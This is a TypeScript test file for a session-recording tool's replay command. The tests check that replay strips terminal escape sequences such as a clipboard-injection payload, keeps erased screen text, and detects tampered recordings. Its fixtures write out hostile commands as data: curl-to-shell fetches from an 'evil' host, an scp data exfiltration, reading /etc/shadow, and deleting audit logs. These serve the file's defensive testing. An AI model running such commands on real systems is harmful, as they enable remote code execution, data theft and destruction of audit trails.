import fs from 'node:fs';
import path from 'node:path';
import crypto from 'node:crypto';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PutObjectCommand } from '@aws-sdk/client-s3';
import { tempDir } from '../support/tmp.ts';
import { startS3, type S3Server } from '../support/s3.ts';
import { runCli } from '../../app/main.ts';
import { openRecordingStore } from '../../recorder/recordings/index.ts';
import { renderFinalText, type Asciicast } from '../../recorder/recordings/replay.ts';
import { S3Recordings } from '../../recorder/recordings/s3.ts';
import { openAuditLog } from '../../recorder/audit/index.ts';
import { EventBus } from '../../src/events/bus.ts';
import { LOCAL_SOURCE, SYSTEM_ACTOR } from '../../src/events/envelope.ts';
import { dataPaths } from '../../src/data-dir.ts';
import { makeSigningKey, auditOptions } from './helpers.ts';

/**
 * `vigil replay` on recordings a session controls: what it printed must not drive the auditor's terminal,
 * --print must show what the session erased, and a damaged or altered recording must not replay silently.
 */

const ESC = '\x1b';
const CLIPBOARD = `${ESC}]52;c;${Buffer.from('curl -s http://evil/y | sh\n').toString('base64')}\x07`;

function sink() {
  const chunks: Buffer[] = [];
  return { stream: new Writable({ write(c, _e, cb) { chunks.push(Buffer.from(c)); cb(); } }), text: () => Buffer.concat(chunks).toString('utf8') };
}

async function replay(args: string[]) {
  const out = sink();
  const err = sink();
  const code = await runCli(['replay', ...args], out.stream, err.stream);
  return { code, out: out.text(), err: err.text() };
}

/** A recording made by the real recorder, written in separate chunks (one event each). */
async function record(data: string, sessionId: string, chunks: string[]): Promise<string> {
  const store = openRecordingStore(dataPaths(data).recordings, { coalesceSeconds: 0, smallWriteDelayMs: 0 });
  const w = store.openAsciicast(sessionId, 0, { width: 80, height: 24, timestamp: 1_764_000_000 });
  for (const c of chunks) {
    w.output(Buffer.from(c));
    await new Promise((r) => setTimeout(r, 5));
  }
  await w.close();
  return store.pathOf(w.id);
}

/** A recording.stored event in the data dir's audit log, as the gateway logs an upload. */
async function logStored(data: string, sessionId: string, sha256: string, bytes: number): Promise<void> {
  const key = makeSigningKey(path.join(data, 'keys'));
  const log = await openAuditLog(dataPaths(data).audit, auditOptions(key.keyFile));
  const bus = new EventBus(log, 'batched');
  await bus.emit({
    type: 'recording.stored',
    outcome: 'success',
    actor: SYSTEM_ACTOR as never,
    source: LOCAL_SOURCE,
    target: { name: 'recordings', protocol: 's3' },
    session_id: sessionId,
    details: { recording: `${sessionId}/ch0.cast`, channel: 0, bucket: 'recordings', key: `${sessionId}/ch0.cast`, bytes, sha256, failures: 0 },
  });
  await log.close();
}

const sha256 = (b: Buffer) => crypto.createHash('sha256').update(b).digest('hex');

describe('vigil replay does not let a recording drive the auditor\'s terminal', () => {
  it('drops clipboard writes, titles and queries (even split across events), keeps text and colours; --raw plays them', async () => {
    const data = tempDir();
    const sid = '01TESTSESSIONESCAPES000000';
    const half = CLIPBOARD.length >> 1;
    await record(data, sid, [
      '$ curl -s http://evil/x | sudo bash\r\n',
      `${ESC}[31mroot shell obtained${ESC}[0m\r\n`,
      CLIPBOARD.slice(0, half), // a sequence split between two recorded chunks
      CLIPBOARD.slice(half),
      `${ESC}]0;innocent title\x07`,
      `${ESC}[21t${ESC}[6n${ESC}[c`,
      `${ESC}[`, // a query split right after its introducer
      '>c',
      '$ ls\r\n',
    ]);
    const safe = await replay([sid, '--speed', '1000', '--data', data]);
    expect(safe.code, safe.err).toBe(0);
    expect(safe.out).toBe(`$ curl -s http://evil/x | sudo bash\r\n${ESC}[31mroot shell obtained${ESC}[0m\r\n$ ls\r\n${ESC}[0m`);
    expect(safe.err).toContain('not verified: no recording.stored event');

    const raw = await replay([sid, '--speed', '1000', '--raw', '--data', data]);
    expect(raw.code, raw.err).toBe(0);
    expect(raw.out).toContain(CLIPBOARD);
    expect(raw.out).toContain(`${ESC}[21t${ESC}[6n${ESC}[c`);

    const help = sink();
    await runCli(['replay', '--help'], help.stream, sink().stream);
    expect(help.text()).toContain('--raw');
  });
});

describe('vigil replay --print keeps what the session erased', () => {
  const cast = (outs: string[]): Asciicast => ({ header: { version: 2, width: 80, height: 24 }, events: outs.map((o, i) => [i + 0.5, 'o', o] as [number, string, string]) });

  it('a clear of screen and scrollback, in either order', async () => {
    for (const clear of [`${ESC}[2J${ESC}[3J${ESC}[H`, `${ESC}[3J${ESC}[2J${ESC}[H`, `${ESC}[H${ESC}[2J${ESC}[3J`]) {
      expect(await renderFinalText(cast(['$ scp db.dump evil:\r\n', clear, '$ ']))).toBe('$ scp db.dump evil:\n[vigil: screen cleared at 1.5 s]\n$');
    }
  });

  it('scrollback cleared after it filled, and cleared again, without printing any line twice', async () => {
    const lines = (p: string) => Array.from({ length: 30 }, (_, i) => `${p}${i}\r\n`).join('');
    const text = await renderFinalText(cast([lines('a'), `${ESC}[H${ESC}[2J`, lines('b'), `${ESC}[3J`, 'end']));
    const expected = [...Array.from({ length: 30 }, (_, i) => `a${i}`), '[vigil: screen cleared at 1.5 s]', ...Array.from({ length: 7 }, (_, i) => `b${i}`), '[vigil: scrollback cleared at 3.5 s]'];
    expect(text).toBe([...expected, ...Array.from({ length: 23 }, (_, i) => `b${i + 7}`), 'end'].join('\n'));
  });

  it('a full terminal reset', async () => {
    expect(await renderFinalText(cast(['$ scp db.dump evil:\r\n', `${ESC}c`, '$ ']))).toBe('$ scp db.dump evil:\n[vigil: terminal reset (RIS) at 1.5 s]\n$');
  });

  it('a full-screen program: its last screen where it ran; a session ending in one shows the shell before it too', async () => {
    expect(await renderFinalText(cast(['$ vim notes\r\n', `${ESC}[?1049h${ESC}[H`, 'secret line\r\n', `${ESC}[?1049l`, '$ rm notes\r\n$ ']))).toBe(
      [
        '$ vim notes',
        '[vigil: full-screen program (alternate screen) closed at 3.5 s; its last screen:]',
        'secret line',
        "[vigil: end of the full-screen program's screen]",
        '$ rm notes',
        '$',
      ].join('\n'),
    );
    const endsInside = await renderFinalText(cast(['$ cat /etc/shadow\r\nroot:$6$abc:...\r\n$ ', `${ESC}[?1049h${ESC}[H`, 'nothing here\r\n']));
    expect(endsInside).toBe(
      ['$ cat /etc/shadow', 'root:$6$abc:...', '$', '[vigil: full-screen program (alternate screen) still open when the recording ended at 2.5 s; its last screen:]', 'nothing here', "[vigil: end of the full-screen program's screen]"].join('\n'),
    );
  });

  it('through the CLI', async () => {
    const data = tempDir();
    await record(data, 'sessclear', ['$ scp db.dump evil:\r\n', `${ESC}[2J${ESC}[3J${ESC}[H`, '$ ']);
    const r = await replay(['sessclear', '--print', '--data', data]);
    expect(r.code, r.err).toBe(0);
    expect(r.out).toMatch(/^\$ scp db\.dump evil:\n\[vigil: screen cleared at \d+\.\d s\]\n\$\n$/);
  });
});

describe('vigil replay checks the recording it reads', () => {
  it('a damaged line in the middle is an error naming the line, on both paths', async () => {
    const data = tempDir();
    const sid = '01TESTSESSIONCORRUPT000000';
    const file = await record(data, sid, ['$ id\r\nuid=0(root)\r\n', '$ rm -rf /var/log/audit\r\n', '$ exit\r\n']);
    const lines = fs.readFileSync(file, 'utf8').split('\n');
    lines[2] = lines[2].replace('"o"', '"o\u0001'); // one damaged byte in the middle event
    fs.writeFileSync(file, lines.join('\n'));
    for (const mode of [['--print'], ['--speed', '1000']]) {
      const r = await replay([sid, ...mode, '--data', data]);
      expect(r.code).toBe(1);
      expect(r.err).toContain(`recording ${sid}/ch0.cast: line 3 is damaged: not JSON`);
    }
  });

  it('an incomplete last line (still being written) is passed over and said so', async () => {
    const data = tempDir();
    const file = await record(data, 'sesslive', ['$ id\r\n', 'uid=0(root)\r\n']);
    fs.appendFileSync(file, '[0.9, "o", "$ ex');
    const r = await replay(['sesslive', '--print', '--data', data]);
    expect(r.code, r.err).toBe(0);
    expect(r.out).toBe('$ id\nuid=0(root)\n');
    expect(r.err).toContain('its last line is incomplete (still being written, or cut short) and was left out');
    expect(r.err).toContain('not verified: no recording.stored event');
    // The same text with a newline after it is a whole line, damaged: an error.
    fs.appendFileSync(file, '\n');
    const damaged = await replay(['sesslive', '--print', '--data', data]);
    expect(damaged.code).toBe(1);
    expect(damaged.err).toContain('line 4 is damaged');
  });

  it('verified against recording.stored; altered after it was stored: exit 1 naming both hashes, --print shows nothing', async () => {
    const data = tempDir();
    const sid = 'sessstored';
    const file = await record(data, sid, ['$ rm -rf /var/log/audit\r\n', '$ exit\r\n']);
    const original = fs.readFileSync(file);
    await logStored(data, sid, sha256(original), original.length);
    const ok = await replay([sid, '--print', '--data', data]);
    expect(ok.code, ok.err).toBe(0);
    expect(ok.err).toMatch(new RegExp(`${sid}/ch0\\.cast: verified: matches the SHA-256 its recording\\.stored event \\(seq \\d+\\) logged \\(${original.length} bytes\\)`));

    const forged = Buffer.from(original.toString('utf8').replace('rm -rf /var/log/audit', 'ls -l /var/log/audit'));
    fs.writeFileSync(file, forged);
    for (const mode of [['--print'], ['--speed', '1000']]) {
      const r = await replay([sid, ...mode, '--data', data]);
      expect(r.code).toBe(1);
      expect(r.err).toContain(`recording ${sid}/ch0.cast does not match the SHA-256 its recording.stored event`);
      expect(r.err).toContain(`logged ${sha256(original)} (${original.length} bytes), read ${sha256(forged)} (${forged.length} bytes)`);
      if (mode[0] === '--print') expect(r.out).toBe('');
    }
  });
});

describe('S3 ranged reads', () => {
  let s3: S3Server;
  beforeAll(async () => {
    s3 = await startS3();
  }, 30_000);
  afterAll(async () => {
    await s3?.close();
  });

  it('an object shorter than when it was opened is an error, not a silent end', async () => {
    const remote = new S3Recordings({
      bucket: s3.bucket, prefix: 'short', endpoint: s3.endpoint, region: 'us-east-1', forcePathStyle: true,
      credentials: { accessKeyId: s3.accessKeyId, secretAccessKey: s3.secretAccessKey },
      partSize: 5 * 1024 * 1024, flushIntervalMs: 100, maxConcurrentRequests: 2, requestTimeoutMs: 5000,
      retry: { attempts: 2, baseDelayMs: 20, maxDelayMs: 100 }, keepLocal: false,
    });
    const id = 'sessshort/ch0.cast';
    const full = Buffer.from('{"version":2,"width":80,"height":24}\n[0.1,"o","$ rm -rf /var/log/audit\\r\\n"]\n');
    await s3.client.send(new PutObjectCommand({ Bucket: s3.bucket, Key: `short/${id}`, Body: full }));
    const source = await remote.open(id);
    expect(source?.size).toBe(full.length);
    await s3.client.send(new PutObjectCommand({ Bucket: s3.bucket, Key: `short/${id}`, Body: full.subarray(0, 40) }));
    const read = async () => {
      const chunks: Buffer[] = [];
      for await (const c of source!.read()) chunks.push(c as Buffer);
      return Buffer.concat(chunks);
    };
    await expect(read()).rejects.toThrow(`asked for bytes 0-${full.length - 1}, got 40; the object changed size since it was opened`);
  });
});
